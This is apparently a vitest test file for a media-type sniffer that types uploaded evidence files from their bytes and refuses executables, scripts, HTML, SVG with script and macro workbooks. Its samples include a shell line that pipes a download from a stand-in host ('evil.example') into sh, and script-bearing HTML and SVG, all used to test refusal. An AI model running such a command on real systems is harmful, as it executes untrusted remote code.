import { describe, expect, it } from 'vitest';
import { CSV_JA, docx, elf, JSON_JA, jpeg, pdf, png, TEXT_JA, windowsExe, xlsx, zip } from '../../../../test/evidence/support-files';
import { CsvShapeCheck } from './csv-shape';
import { JsonSyntaxCheck } from './json-syntax';
import { MediaTypeSniffer, sniffBytes } from './media-type-sniffer';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const utf8 = (s: string) => Buffer.from(s, 'utf8');

describe('the type of an evidence file is decided from its bytes', () => {
  it.each([
    ['a PDF', pdf(), 'application/pdf'],
    ['a PNG', png(), 'image/png'],
    ['a JPEG', jpeg(), 'image/jpeg'],
    ['an XLSX workbook', xlsx(), XLSX],
    ['a DOCX document', docx(), DOCX],
    ['a Japanese CSV table (quoted comma, doubled quotes)', utf8(CSV_JA), 'text/csv'],
    [
      'a Japanese CSV with a UTF-8 BOM and CRLF line ends (as Excel writes it)',
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(CSV_JA.replace(/\n/g, '\r\n'))]),
      'text/csv',
    ],
    ['a Japanese plain text', utf8(TEXT_JA), 'text/plain'],
    ['a JSON object with Japanese keys', utf8(JSON_JA), 'application/json'],
    ['a JSON array', utf8(' [1, -2.5e3, "a\\u00e9\\n", null, true, {"k": []}]\n'), 'application/json'],
  ])('%s is recognised', async (_, bytes, type) => {
    expect(await sniffBytes(bytes)).toBe(type);
  });

  it('gives the same answer whatever the chunk boundaries (even inside a multi-byte character)', async () => {
    for (const size of [1, 2, 3, 5, 7, 64]) {
      expect(await sniffBytes(utf8(CSV_JA), size)).toBe('text/csv');
      expect(await sniffBytes(utf8(TEXT_JA), size)).toBe('text/plain');
      expect(await sniffBytes(utf8(JSON_JA), size)).toBe('application/json');
      expect(await sniffBytes(pdf(), size)).toBe('application/pdf');
      expect(await sniffBytes(xlsx(), size)).toBe(XLSX);
    }
  });

  it.each([
    ['a Windows executable', windowsExe(), 'application/x-msdownload'],
    ['a Linux executable', elf(), 'application/x-executable'],
    ['a shell script', utf8('#!/bin/sh\ncurl http://evil.example | sh\n'), 'text/x-script'],
    ['an HTML page', utf8('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'text/html'],
    ['an SVG image (can carry script)', utf8('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
    ['an XML file', utf8('<?xml version="1.0"?><a/>'), 'application/xml'],
    ['a plain ZIP archive', zip({ 'report.txt': 'hello' }), 'application/zip'],
    ['an OOXML file with no content types', zip({ 'xl/workbook.xml': '<workbook/>' }), 'application/zip'],
    ['a macro-enabled workbook', xlsx({ 'xl/vbaProject.bin': 'macro' }), 'application/vnd.ms-excel.sheet.macroEnabled.12'],
    [
      'a PowerPoint file',
      zip({ '[Content_Types].xml': '<Types/>', 'ppt/presentation.xml': '<p/>' }),
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
    ],
    ['a truncated ZIP (no central directory)', xlsx().subarray(0, 200), 'application/zip'],
    [
      'text in Shift_JIS (not UTF-8)',
      Buffer.from([0x8e, 0x81, 0x96, 0xbc, 0x2c, 0x95, 0x94, 0x8f, 0x90, 0x0a]),
      'application/octet-stream',
    ],
    ['text with a NUL byte', utf8('abc\u0000def'), 'application/octet-stream'],
    ['text with an escape sequence', utf8('abc\u001b[31mred'), 'application/octet-stream'],
    ['text cut inside a UTF-8 character', utf8('権限').subarray(0, 4), 'application/octet-stream'],
    ['random binary', Buffer.from([0x00, 0x01, 0x02, 0x03, 0xfe, 0xff, 0x10, 0x11, 0x12]), 'application/octet-stream'],
  ])('%s is named for what it is (and is none of the allowed types)', async (_, bytes, type) => {
    expect(await sniffBytes(bytes)).toBe(type);
  });

  it('refuses an executable as soon as its first bytes arrive, before the rest', () => {
    const sniffer = new MediaTypeSniffer();
    sniffer.update(windowsExe().subarray(0, 16));
    expect(sniffer.candidates).toEqual([]);
    expect(sniffer.refusedAs).toBe('application/x-msdownload');
  });

  it('narrows a text: a NUL byte half way rules out every text type at once', () => {
    const sniffer = new MediaTypeSniffer();
    sniffer.update(utf8(CSV_JA));
    expect(sniffer.candidates).toEqual(['text/csv', 'text/plain']);
    sniffer.update(Buffer.from([0]));
    expect(sniffer.candidates).toEqual([]);
    expect(sniffer.refusedAs).toBe('application/octet-stream');
  });

  it('a ZIP may still be an XLSX or a DOCX until its directory is read', () => {
    const sniffer = new MediaTypeSniffer();
    sniffer.update(xlsx().subarray(0, 10));
    expect(sniffer.candidates).toEqual([XLSX, DOCX]);
  });

  it('a name never matters: only bytes are given to the sniffer (a PE with a .pdf name is still a PE)', async () => {
    // The sniffer has no name parameter at all; this documents the contract.
    expect(MediaTypeSniffer.prototype.update.length).toBe(1);
    expect(await sniffBytes(windowsExe())).toBe('application/x-msdownload');
  });
});

describe('CSV or plain text', () => {
  const isCsv = (s: string) => {
    const c = new CsvShapeCheck();
    c.write(s);
    return c.end();
  };
  it('needs two records with the same number of commas outside quotes', () => {
    expect(isCsv('a,b\n1,2\n')).toBe(true);
    expect(isCsv('a,b\r\n1,2')).toBe(true);
    expect(isCsv('a,b\n\n1,2\n\n')).toBe(true); // blank lines ignored
    expect(isCsv('"a\nb",c\n1,2\n')).toBe(true); // line break inside quotes
    expect(isCsv('a,b\n1,2,3\n')).toBe(false);
    expect(isCsv('a,b\n')).toBe(false); // one record: prose with a comma looks like this
    expect(isCsv('one column\nsecond\n')).toBe(false);
    expect(isCsv('"unclosed,quote\n1,2\n')).toBe(false);
    expect(isCsv('本日、確認しました。\n明日、報告します。\n')).toBe(false); // Japanese commas (、) are not delimiters
  });
});

describe('JSON syntax, checked without keeping the text', () => {
  const isJson = (s: string) => {
    const j = new JsonSyntaxCheck();
    j.write(s);
    return j.end();
  };
  it.each(['{}', '[]', '{"a":[1,2,{"b":null}]}', ' [ "x\\"y" , 0.5 , -0 , 1E+2 ] ', '{"日本語":"値"}'])('accepts %s', (s) => {
    expect(isJson(s)).toBe(true);
  });
  it.each([
    '',
    '42',
    '"text"',
    'true',
    '{',
    '{"a":1,}',
    '[1 2]',
    '[01]',
    '{"a" 1}',
    '{a:1}',
    "['x']",
    '[tru]',
    '[1]x',
    '["\t"]',
    '["\\x"]',
    '["\\u12"]',
    '{}{}',
  ])('refuses %j', (s) => {
    expect(isJson(s)).toBe(false);
  });
});
